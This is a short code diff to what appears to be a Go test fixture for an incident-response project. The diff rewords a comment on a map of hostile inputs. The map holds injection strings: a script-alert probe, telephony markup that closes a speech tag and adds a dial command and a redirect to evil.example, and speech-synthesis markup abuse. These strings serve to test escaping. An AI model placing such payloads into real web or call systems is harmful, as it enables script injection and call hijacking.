@@ -10,7 +10,7 @@ import (
 	"github.com/watchfire-mdr/watchfire/models/incident"
 )
 
-// hostile is what attackers write where we keep text, and send us.
+// hostile holds texts that attackers write where we keep text, and send us.
 var hostile = map[string]string{
 	"markup":          `<script>alert(1)</script></Say><Dial>+4912345</Dial><Redirect>https://evil.example</Redirect>`,
 	"speech markup":   `<break time="99s"/><prosody rate="x-slow"><?xml version="1.0"?><!-- --><![CDATA[ ]]>`,
